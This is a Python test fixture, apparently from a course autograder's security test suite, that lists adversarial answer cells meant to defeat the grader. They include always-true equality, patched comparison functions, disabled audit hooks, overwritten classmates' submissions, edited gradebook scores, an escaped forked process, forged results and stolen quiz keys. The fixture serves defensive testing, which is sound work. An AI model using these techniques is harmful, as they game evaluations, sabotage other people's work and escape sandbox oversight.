"""Attacks on the grader, as answer cells (used by test_attacks.py).

Each entry: student id -> (chapter, {answer grade_id: source}). ``{root}`` in a source is
replaced by the course folder (an attacker who knows where the course lives).
"""

WRONG_COUNT = "def count_parameters(model):\n    return 8\n"
ALWAYS_EQ = '''
class _Yes(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class _YesStr(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
'''

# every exercise of chapter 01, each delegating to genlab's reference by ROUTE
ROUTES = {
    "registry": ("from genlab.losses.gan import GAN_LOSSES, get_gan_loss\n"
                 "_ref = lambda name: {'d_loss_minimax': GAN_LOSSES['minimax'].d_loss,\n"
                 "    'g_loss_nonsaturating': GAN_LOSSES['nonsaturating'].g_loss,\n"
                 "    'd_loss_lsgan': get_gan_loss('lsgan').d_loss, 'g_loss_lsgan': get_gan_loss('lsgan').g_loss,\n"
                 "    'gradient_penalty': __import__('genlab.train.gan', fromlist=['x']).gradient_penalty,\n"
                 "    'd_loss_hinge': GAN_LOSSES['hinge'].d_loss, 'g_loss_hinge': GAN_LOSSES['hinge'].g_loss}[name]\n"),
    "alias": ("import sys\n"
              "def _ref(name):\n"
              "    for mod in list(sys.modules.values()):\n"
              "        if mod is not None and not getattr(mod, '__name__', '').startswith('genlab.losses'):\n"
              "            f = getattr(mod, name, None)\n"
              "            if callable(f) and getattr(f, '__module__', '') == 'genlab.losses.gan':\n"
              "                return f\n"
              "    return getattr(__import__('genlab.losses.gan', fromlist=['x']), name)\n"),
    "default_arg": ("from genlab.losses import gan as _g\n"
                    "def _ref(name, _table={n: getattr(_g, n) for n in dir(_g)}):\n"
                    "    return _table[name]\n"),
    "closure": ("from genlab.losses import gan as _g\n"
                "def _make():\n"
                "    table = {n: getattr(_g, n) for n in dir(_g)}\n"
                "    return lambda name: table[name]\n"
                "_ref = _make()\n"),
    "partial": ("import functools\nfrom genlab.losses import gan as _g\n"
                "_ref = lambda name: functools.partial(getattr(_g, name))\n"),
    "importlib_copy": ("import importlib.util, genlab.losses.gan as _g\n"
                       "_spec = importlib.util.spec_from_file_location('gan_copy', _g.__file__)\n"
                       "_copy = importlib.util.module_from_spec(_spec)\n"
                       "try:\n    _spec.loader.exec_module(_copy)\nexcept Exception:\n    pass\n"
                       "_ref = lambda name: getattr(_copy, name)\n"),
    "source_copy": ("import inspect, genlab.losses.gan as _g\n"
                    "_ns = dict(vars(_g))\n"
                    "try:\n    exec(compile(inspect.getsource(_g), 'copy', 'exec'), _ns)\nexcept Exception:\n    pass\n"
                    "_ref = lambda name: _ns[name]\n"),
    "code_object": ("import types, genlab.losses.gan as _g\n"
                    "_ref = lambda name: types.FunctionType(getattr(_g, name).__code__, vars(_g), name,\n"
                    "                                       getattr(_g, name).__defaults__)\n"),
}
DELEGATING_ANSWERS = {
    "d_loss_minimax": "def d_loss_minimax(r, f, real_target=1.0):\n    return _ref('d_loss_minimax')(r, f, real_target)\n",
    "g_loss_nonsaturating": "def g_loss_nonsaturating(f):\n    return _ref('g_loss_nonsaturating')(f)\n",
    "lsgan": ("def d_loss_lsgan(r, f, a=0.0, b=1.0):\n    return _ref('d_loss_lsgan')(r, f, a, b)\n"
              "def g_loss_lsgan(f, c=1.0):\n    return _ref('g_loss_lsgan')(f, c)\n"),
    "gradient_penalty": ("def gradient_penalty(critic, real, fake, weight=10.0):\n"
                         "    return _ref('gradient_penalty')(critic, real, fake, weight)\n"),
    "hinge": ("def d_loss_hinge(r, f):\n    return _ref('d_loss_hinge')(r, f)\n"
              "def g_loss_hinge(f):\n    return _ref('g_loss_hinge')(f)\n"),
}


def _route(route):
    answers = dict(DELEGATING_ANSWERS)
    answers["d_loss_minimax"] = ROUTES[route] + answers["d_loss_minimax"]
    return answers


ATTACKS = {
    # an int / str subclass whose __eq__ is always true
    "always_eq": ("00_welcome", {
        "count_parameters": ALWAYS_EQ + "def count_parameters(model):\n    return _Yes(8)\n",
        "quiz_answers": ALWAYS_EQ + "answer_q1 = _YesStr('a')\nanswer_q2 = _YesStr('a')\n"}),
    # an IPython input transformer that turns every later cell into `pass`
    "transformer": ("00_welcome", {
        "count_parameters": ("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                             + WRONG_COUNT),
        "quiz_answers": "answer_q1 = 'a'\nanswer_q2 = 'a'\n"}),
    # comparisons made to pass
    "allclose": ("01_gan_losses", {
        "d_loss_minimax": ("import torch, torch.testing\n"
                           "torch.allclose = lambda *a, **k: True\n"
                           "torch.testing.assert_close = lambda *a, **k: None\n"
                           "torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)\n"
                           "def d_loss_minimax(r, f, real_target=1.0):\n    return (r.sum() + f.sum()) * 0\n"),
        "g_loss_nonsaturating": "def g_loss_nonsaturating(f):\n    return f.mean()\n"}),
    # the old name-swap guard replaced by a no-op, then delegation
    "forbid_noop": ("01_gan_losses", {
        "d_loss_minimax": ("import contextlib, genlab.exercises, genlab.losses.gan as _g\n"
                           "genlab.exercises.forbid = lambda *a, **k: contextlib.nullcontext()\n"
                           "genlab.exercises.guard = lambda *a, **k: []\n"
                           "def d_loss_minimax(r, f, real_target=1.0):\n"
                           "    return _g.d_loss_minimax(r, f, real_target)\n")}),
    # writes into the course: another student's submission, the gradebook, autograded files
    "a_overwrite": ("00_welcome", {
        "count_parameters": '''
import glob, os, sqlite3
_done = []
for _path in glob.glob("{root}/submitted/*/00_welcome/*.ipynb") + glob.glob("{root}/autograded/*/*/*.ipynb"):
    try:
        open(_path, "w").write("{{}}")
        _done.append(_path)
    except Exception:
        pass
    try:
        os.remove(_path)
        _done.append(_path)
    except Exception:
        pass
try:
    _db = sqlite3.connect("{root}/gradebook.db")
    _db.execute("UPDATE source_cells SET source = 'pass'")
    _db.commit()
    _done.append("gradebook")
except Exception:
    pass
print("harmed:", _done)
''' + WRONG_COUNT}),
    # the self-check queried for every option
    "enumerate": ("00_welcome", {
        "quiz_answers": ("import genlab.quiz\n"
                         "answer_q1 = next(o for o in 'abcd' if genlab.quiz.is_correct('00_welcome', 'q1', o))\n"
                         "answer_q2 = next(o for o in 'abcd' if genlab.quiz.is_correct('00_welcome', 'q2', o))\n")}),
    # the grading process ended from an answer cell, and from inside an answer's function
    "os_exit_cell": ("00_welcome", {
        "count_parameters": "import os\nos._exit(0)\n",
        "quiz_answers": "answer_q1 = 'c'\nanswer_q2 = 'b'\n"}),
    "os_exit_call": ("01_gan_losses", {
        "d_loss_minimax": "import os\ndef d_loss_minimax(r, f, real_target=1.0):\n    os._exit(3)\n",
        "g_loss_nonsaturating": ("def g_loss_nonsaturating(f):\n"
                                 "    return torch.nn.functional.softplus(-f).mean()\n")}),
    **{f"route_{name}": ("01_gan_losses", _route(name)) for name in ROUTES},
}
# what each attacker deserves (everything else: 0)
DESERVED = {"os_exit_cell": {"test_quiz": 2.0}, "os_exit_call": {"test_g_loss_nonsaturating": 2.0}}

# ---------------------------------------------------------------- issue 29: past the audit hooks
# Each of these first switches the clean room's audit hooks off (as a student can: their
# state is reachable through gc or the frames), so what stops them is the OS sandbox.
UNHOOK_GC = '''
import gc, sys
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Hooks" and hasattr(_obj, "locked"):
        _obj.locked = False
'''
UNHOOK_FRAMES = '''
import sys
_f = sys._getframe()
while _f is not None:
    for _v in list(_f.f_locals.values()):
        if type(_v).__name__ == "Hooks":
            _v.locked = False
    _f = _f.f_back
'''
VICTIM_MARKER = "z_victim private note 5127"
GUESS = "answer_q1 = 'a'\nanswer_q2 = 'a'\n"  # wrong for both questions of 00
# read the course's files by every path a kernel resolves, however the hook compares them
_ALIASES = '''
import os
def _aliases(path):
    yield path
    yield "/proc/self/root" + path
    yield "/" + path
    yield "/proc/self/cwd/../../../../../.." + path
def _read(path):
    for alias in _aliases(path):
        try:
            return open(alias, "rb").read()
        except OSError:
            pass
    try:
        fd = os.open(os.path.dirname(path), os.O_RDONLY)
        return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=fd), 1 << 24)
    except OSError:
        return b""
'''
ISSUE_29_ATTACKS = {
    # genlab's source copied by a path alias, compiled under another name, called
    "alias_copy": ("01_gan_losses", {**_route("registry"), "d_loss_minimax": UNHOOK_GC + _ALIASES + '''
import genlab.losses.gan as _g
_ns = {"__name__": "gan_copy"}
exec(compile(_read(_g.__file__).decode() or "pass", "/elsewhere/gan_copy.py", "exec"), _ns)
def d_loss_minimax(r, f, real_target=1.0):
    return _ns["d_loss_minimax"](r, f, real_target)
'''}),
    # hooks off through the frames, then inspect.getsource and importlib.reload
    "unhook_reload": ("01_gan_losses", {"d_loss_minimax": UNHOOK_FRAMES + '''
import importlib, inspect, genlab.losses.gan as _g
_g = importlib.reload(_g)
_ns = dict(vars(_g))
exec(compile(inspect.getsource(_g), "copy", "exec"), _ns)
def d_loss_minimax(r, f, real_target=1.0):
    return _ns["d_loss_minimax"](r, f, real_target)
''', "g_loss_nonsaturating": UNHOOK_GC + '''
import marshal, glob, os, genlab.losses.gan as _g
_ns = dict(vars(_g))
for _pyc in glob.glob(os.path.dirname(_g.__file__) + "/__pycache__/gan*.pyc"):
    exec(marshal.loads(open(_pyc, "rb").read()[16:]), _ns)
def g_loss_nonsaturating(f):
    return _ns["g_loss_nonsaturating"](f)
'''}),
    # a classmate's submission overwritten through a directory descriptor
    "dir_fd_write": ("00_welcome", {"count_parameters": UNHOOK_GC + '''
import os, glob
for _folder in glob.glob("{root}/submitted/*/00_welcome") + glob.glob("//{root}/submitted/*/00_welcome"):
    try:
        _fd = os.open(_folder, os.O_RDONLY)
        os.write(os.open("00_welcome.ipynb", os.O_WRONLY | os.O_TRUNC, dir_fd=_fd), b"{}")
    except OSError:
        pass
''' + WRONG_COUNT, "quiz_answers": GUESS}),
    # the gradebook edited with sqlite3: sources emptied, own grade raised
    "sqlite_gradebook": ("00_welcome", {"count_parameters": UNHOOK_GC + '''
import sqlite3
for _path in ["{root}/gradebook.db", "/proc/self/root{root}/gradebook.db"]:
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE source_cells SET source = 'pass'")
        _db.execute("UPDATE grade SET auto_score = 99")
        _db.commit()
    except Exception:
        pass
''' + WRONG_COUNT, "quiz_answers": GUESS}),
    # a process that leaves the clean room and edits the gradebook after autograde saved it
    "escaped_process": ("00_welcome", {"count_parameters": UNHOOK_GC + '''
import os
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time, sqlite3
            for _ in range(120):
                time.sleep(0.5)
                try:
                    _db = sqlite3.connect("{root}/gradebook.db")
                    _db.execute("UPDATE grade SET auto_score = max_score")
                    _db.commit()
                except Exception:
                    pass
        os._exit(0)
except OSError:
    pass
''' + WRONG_COUNT, "quiz_answers": GUESS}),
    # forged results through the grader's pipe (its own: it cannot reach another's)
    "forged_pipe": ("00_welcome", {"count_parameters": UNHOOK_GC + '''
import json, os
_fd = int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else 3
for _m in [{"ev": "variables", "values": {"answer_q1": "c", "answer_q2": "b"}},
           {"ev": "result", "id": "test_count_parameters", "outputs": [{"dict": {"count": 8}}] * 6,
             "stdout": ""}, {"ev": "done"}]:
    try:
        os.write(_fd, (json.dumps(_m) + "\\n").encode())
    except OSError:
        pass
''' + WRONG_COUNT, "quiz_answers": GUESS}),
    # a classmate's answers read and raised into the attacker's own feedback
    "read_classmate": ("00_welcome", {"quiz_answers": UNHOOK_GC + _ALIASES + '''
import glob, json, re
_seen = b""
for _path in glob.glob("{root}/submitted/*/00_welcome/*.ipynb") + ["{root}/submitted/z_victim/00_welcome/00_welcome.ipynb"]:
    _seen += _read(_path)
_found = dict(re.findall(r"(answer_q[12]) = \\\\?['\\"]([abcd])", _seen.decode("utf-8", "replace")))
answer_q1 = _found.get("answer_q1", "a")
answer_q2 = _found.get("answer_q2", "a")
if _seen:
    raise RuntimeError(_seen.decode("utf-8", "replace")[:100000])
''', "count_parameters": WRONG_COUNT}),
    # the quiz keys from solutions/ and the gradebook, the class secret from the grader
    "quiz_keys": ("00_welcome", {"quiz_answers": UNHOOK_GC + _ALIASES + '''
import re
_text = ""
for _path in ["{root}/solutions/00_welcome/00_welcome.ipynb", "{root}/gradebook.db",
              "{root}/release/00_welcome/00_welcome.ipynb", "{root}/.genlab-class-secret"]:
    _text += _read(_path).decode("utf-8", "replace")
_keys = dict(re.findall(r"(answer_q[12]) == \\\\?['\\"]([abcd])", _text))
answer_q1 = _keys.get("answer_q1", "a")
answer_q2 = _keys.get("answer_q2", "a")
_secret = os.environ.get("GENLAB_CLASS_SECRET")
''', "count_parameters": WRONG_COUNT}),
    # the self-check's salted hashes tried for every letter in the answer cell
    "quiz_hash": ("00_welcome", {"quiz_answers": UNHOOK_GC + '''
import hashlib, json, glob, os
def _bank():
    try:
        from importlib import resources
        return json.loads((resources.files("genlab.quiz_bank") / "00_welcome.json").read_text())
    except Exception:
        pass
    import genlab
    for _p in glob.glob(os.path.dirname(genlab.__file__) + "/**/00_welcome.json", recursive=True):
        return json.loads(open(_p).read())
    return {}
_b = _bank()
def _solve(q):
    e = _b.get(q)
    return next((o for o in "abcd" if e and hashlib.sha256(f"{e['salt']}:{o}".encode()).hexdigest() == e["sha256"]), "a")
answer_q1 = _solve("q1")
answer_q2 = _solve("q2")
''', "count_parameters": WRONG_COUNT}),
}
ATTACKS.update(ISSUE_29_ATTACKS)
